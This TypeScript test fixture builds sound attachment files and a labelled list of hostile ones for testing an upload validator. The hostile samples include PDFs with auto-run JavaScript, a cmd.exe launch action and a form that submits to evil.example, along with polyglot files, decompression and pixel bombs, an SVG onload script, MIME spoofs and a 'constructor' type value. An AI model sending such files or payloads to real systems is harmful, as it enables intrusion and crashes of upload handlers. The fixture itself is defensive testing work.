import { deflateSync } from 'node:zlib';

/** Files of attachments, made here: sound ones, and what pretends to be one. */
export const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

const [app0, frame, scan] = [
  'ffe000104a46494600010100000100010000',
  'ffc0000b080001000101011100',
  'ffda0008010100003f00',
];
export const jpeg = Buffer.from(`ffd8${app0}${frame}${scan}d2cf20ffd9`, 'hex');

export const text = Buffer.from('Bus 662 stops at the door.\nRing the bell on the left.\n');

/** A PDF of these objects. */
export function pdf(...objects: (string | Buffer)[]): Buffer {
  const numbered = objects.flatMap((object, at) => [`${String(at + 1)} 0 obj\n`, object, '\nendobj\n']);
  const parts = ['%PDF-1.7\n', ...numbered, 'trailer\n<</Root 1 0 R>>\n%%EOF\n'];
  return Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));
}

/** An object that is a stream, deflated. */
export function stream(content: string | Buffer, more = '/Filter /FlateDecode'): Buffer {
  const packed = deflateSync(content);
  const head = Buffer.from(`<<${more} /Length ${String(packed.length)}>>\nstream\n`, 'latin1');
  return Buffer.concat([head, packed, Buffer.from('\nendstream')]);
}

export const plainPdf = pdf(
  '<</Type /Catalog /Pages 2 0 R>>',
  '<</Type /Pages /Kids [] /Count 0>>',
  stream('BT (Hello) Tj ET'),
);

const script = '<</Type /Catalog /OpenAction <</S /JavaScript /JS (app.alert(1))>>>>';
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>';
const page = '<!DOCTYPE html><html><script>alert(1)</script></html>';
const program = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100)]);
const archive = Buffer.concat([Buffer.from('PK\u0005\u0006', 'latin1'), Buffer.alloc(18)]);

function wide(width: number): Buffer {
  const image = Buffer.from(png);
  image.writeUInt32BE(width, 16);
  image.writeUInt32BE(width, 20);
  return image;
}

/** What it is, what it says it is, and its bytes. None is taken. */
export const hostileFiles: readonly (readonly [string, string, Buffer])[] = [
  ['a PDF with a script', 'application/pdf', pdf(script)],
  [
    'a PDF with a script whose name is spelled otherwise',
    'application/pdf',
    pdf(script.replace('/JavaScript', '/J#61vaScript')),
  ],
  ['a PDF that launches a program', 'application/pdf', pdf('<</OpenAction <</S /Launch /F (cmd.exe)>>>>')],
  ['a PDF with a form that sends', 'application/pdf', pdf('<</A <</S /SubmitForm /F (https://evil.example)>>>>')],
  ['a PDF that carries a file', 'application/pdf', pdf('<</Names <</EmbeddedFiles 2 0 R>>>>')],
  [
    'a PDF whose script is packed',
    'application/pdf',
    pdf(stream(`1 0 ${script}`, '/Type /ObjStm /Filter /FlateDecode')),
  ],
  [
    'a PDF whose objects are packed twice',
    'application/pdf',
    pdf(stream('1 0', '/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]')),
  ],
  ['a PDF that is encrypted', 'application/pdf', pdf('<</Encrypt 2 0 R>>')],
  ['a PDF that unpacks to more than memory has', 'application/pdf', pdf(stream(Buffer.alloc(70 * 1024 * 1024)))],
  ['a PDF that is a ZIP archive too', 'application/pdf', Buffer.concat([plainPdf, archive, Buffer.from('%%EOF')])],
  ['a PDF that is a page too', 'application/pdf', pdf(page)],
  ['a PDF that ends in the middle', 'application/pdf', plainPdf.subarray(0, 60)],
  ['a page called a PDF', 'application/pdf', Buffer.from(page)],
  ['a page called text', 'text/plain', Buffer.from(page)],
  ['a picture called text', 'text/plain', png],
  ['bytes called text', 'text/plain', Buffer.from([0xff, 0xfe, 0x00, 0x41])],
  ['a program called text', 'text/plain', program],
  ['a page', 'text/html', Buffer.from(page)],
  ['a drawing that acts', 'image/svg+xml', Buffer.from(svg)],
  ['a drawing called a PNG', 'image/png', Buffer.from(svg)],
  ['a document with macros', 'application/vnd.ms-word.document.macroEnabled.12', archive],
  ['an archive', 'application/zip', archive],
  ['a PNG called a JPEG', 'image/jpeg', png],
  ['a PNG with a page behind it', 'image/png', Buffer.concat([png, Buffer.from(page)])],
  ['a PNG with an archive behind it', 'image/png', Buffer.concat([png, archive])],
  ['a PNG of more pixels than memory has', 'image/png', wide(60_000)],
  ['a PNG that ends in the middle', 'image/png', png.subarray(0, 40)],
  ['a JPEG with a program behind it', 'image/jpeg', Buffer.concat([jpeg, program])],
  ['a JPEG that ends in the middle', 'image/jpeg', jpeg.subarray(0, 30)],
  ['a type that is none', 'constructor', text],
];
